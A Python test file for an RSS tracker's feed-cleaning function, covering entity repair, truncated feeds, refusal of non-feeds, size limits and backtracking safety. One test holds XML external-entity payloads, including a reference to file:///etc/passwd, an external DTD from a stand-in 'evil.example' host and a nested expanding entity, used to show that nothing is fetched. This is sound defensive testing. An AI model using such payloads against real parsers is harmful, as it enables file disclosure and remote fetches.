"""A feed's text before a parser sees it: mended where newsrooms are careless, refused where it is abuse or no feed."""

from __future__ import annotations

from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.collectors.asking import PATIENT, rss
from tracker.collectors.documents import MOST_TAGS, prepare
from tracker.errors import SourceError

ITEM = "<title>a</title>"
BARE = rss(ITEM, declaration="")


@pytest.mark.parametrize(
    "text",
    [
        BARE,
        rss(ITEM),
        "\ufeff" + rss(ITEM),
        "\n\n  \t" + rss(ITEM),
        '<?xml?xml version="1.0"?>' + BARE,
        "<?XML version='1.0'?>\n<!-- made by <rss>Press</rss> -->" + BARE,
        '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><!-- <p> --> ' + BARE,
        "<!-- x -->" * 1000 + BARE,
        "\n<br />\n<b>Warning</b>: mysql in /x.php on line <b>3</b><br />\n" + rss(ITEM),
        "\n<br />\n<b>Warning</b>: mysql in /x.php on line <b>3</b><br />\n" + BARE,
        '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss.dtd">' + BARE,
        BARE + "\n<!-- served by cache 3 in 0.02 s -->",
        BARE + "<script>track()</script>",
        BARE + rss("<title>second</title>"),
    ],
    ids=range(14),
)
def test_what_stands_around_a_feed_is_left_out(text: str) -> None:
    """Marks, declarations, comments, warnings of PHP in front of it; anything behind it."""
    document = prepare(text)

    assert document.text == BARE
    assert not document.cut


#: as written in a title, as a strict parser is given it
REFERENCES = [
    ("R&D", "R&amp;D"),
    ("a & b && c", "a &amp; b &amp;&amp; c"),
    ("&amp; &lt; &gt; &quot; &apos;", "&amp; &lt; &gt; &quot; &apos;"),
    ("a&nbsp;b", "a&#160;b"),
    ("caf&eacute; &colon;", "caf&#233; &#58;"),
    ("&amp;nbsp;", "&amp;nbsp;"),
    ("&foo; &notit;", "&amp;foo; &amp;notit;"),
    ("?a=1&copy=2&b=3", "?a=1&amp;copy=2&amp;b=3"),
    ("&#38; &#x26; &#146;", "&#38; &#38; &#8217;"),
    ("&#0;&#8;&#xFFFE;.", "."),
    ("&LT;b&GT;", "&#60;b&#62;"),
    ("<![CDATA[R&D &nbsp;]]>", "<![CDATA[R&D &nbsp;]]>"),
    ("<!-- R&D -->", "<!-- R&D -->"),
    ("a\x00b\x0b\x1bc\ufffe", "abc"),
]


@pytest.mark.parametrize(("written", "given_"), REFERENCES)
def test_references_are_made_whole(written: str, given_: str) -> None:
    """One bare `&` would throw the whole document to a parser that guesses."""
    assert prepare(rss(f"<title>{written}</title>")).text == rss(f"<title>{given_}</title>", declaration="")


def test_only_plain_entities_of_a_dtd_are_known() -> None:
    """Nothing is fetched, and nothing grows."""
    dtd = """<!DOCTYPE rss [
        <!ENTITY uuml "&#252;"> <!ENTITY co 'Corp'>
        <!ENTITY file SYSTEM "file:///etc/passwd"> <!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;
        <!ENTITY l0 "lol"> <!ENTITY l1 "&l0;&l0;"> <!ENTITY tag "<script>"> ]>"""

    text = prepare(dtd + rss("<title>&uuml; &co; &file; &l0; &l1; &tag;</title>", declaration="")).text

    assert "<title>&#252; &#67;&#111;&#114;&#112; &amp;file; &#108;&#111;&#108; &amp;l1; &amp;tag;</title>" in text
    assert "DOCTYPE" not in text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (BARE[:-6], ITEM),
        (BARE[: BARE.index("</channel>")], ITEM),
        (BARE[: BARE.index("</channel>")] + "<item><title>begun", ITEM),
        (BARE[: BARE.index("</channel>")] + "<item><title><![CDATA[begun </rss>", ITEM),
        (BARE[: BARE.index("</channel>")] + "<item><!-- begun </rss>", ITEM),
    ],
    ids=range(5),
)
def test_what_is_cut_off_is_closed_after_its_last_whole_entry(text: str, left: str) -> None:
    """What was begun is left out; an end inside of a text is none."""
    document = prepare(text)

    assert document.cut
    assert document.text == rss(left, declaration="")


@pytest.mark.parametrize(
    ("text", "state", "words"),
    [
        ("", "empty", "empty: the answer has no bytes"),
        (" \n\t\ufeff", "empty", "empty"),
        ('<?xml version="1.0"?>', "empty", "empty"),
        ("<!doctype html><title>Login</title>", "failed", "this is an HTML page"),
        ("<!-- c --><!-- d -->\n<HTML lang=zh>", "failed", "this is an HTML page"),
        (
            '<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN"><html/>',
            "failed",
            "this is an HTML page",
        ),
        ("hello", "failed", "not a feed: it begins with 'hello'"),
        ('{"items": []}', "failed", "not a feed: it begins with"),
        ("Please limit requests to one every 5 seconds", "failed", "not a feed: it begins with 'Please limit"),
        ("<rss>" + "<a>" * MOST_TAGS, "failed", "too large: more than 400,000 tags"),
        ("<rss>" + "<![CDATA[" + "<" * MOST_TAGS, "failed", "too large: more than 400,000 tags"),
        ("<rss " + "a='1' " * 20_000 + ">", "failed", "too large: one tag has more than 64 kB"),
        ("<?xml " + "encoding='" * 200_000, "failed", "too large: one tag has more than 64 kB"),
    ],
    ids=range(13),
)
def test_what_is_no_feed_is_refused(text: str, state: str, words: str) -> None:
    """In one sentence."""
    with pytest.raises(SourceError) as caught:
        prepare(text)

    assert caught.value.state == state
    assert words in str(caught.value)


@pytest.mark.parametrize(
    "piece",
    [
        "<!---->",
        "<a ",
        "<!DOCTYPE a[",
        "<!DOCTYPE ",
        "<!--",
        "<?x ",
        "<![CDATA[",
        "&",
        "&a",
        "]]>",
        "] ",
        "<!ENTITY a '",
        "--",
        "</rss",
    ],
)
def test_no_pattern_goes_back_and_forth_over_a_document(piece: str) -> None:
    """A hundred thousand of anything: one that tries all ways of matching would take hours, and no test would end."""
    for text in (
        piece * 100_000 + BARE,
        f"<rss><channel>{piece * 100_000}</channel></rss>",
        f"<!DOCTYPE a[{piece * 100_000}]>{BARE}",
    ):
        with suppress(SourceError):  # a comment that never ends is no feed
            assert prepare(text).text.startswith("<")


@PATIENT
@given(
    st.lists(
        st.sampled_from(
            [
                "<rss>",
                "</rss>",
                "<!--",
                "-->",
                "<![CDATA[",
                "]]>",
                "<item>",
                "</item>",
                "<!DOCTYPE a [",
                "]>",
                "&",
                "&a;",
                "<?xml",
                "?>",
                "x",
                "<html>",
                "<channel>",
                " ",
            ]
        ),
        max_size=14,
    )
)
def test_any_order_of_pieces_is_a_document_or_a_refusal(pieces: list[str]) -> None:
    """What is given on begins with its root, and has no reference that a strict parser does not know."""
    try:
        document = prepare("".join(pieces))
    except SourceError:
        return
    assert document.text.startswith("<")
    assert "&a;" not in document.text or "<![CDATA[" in document.text or "<!--" in document.text
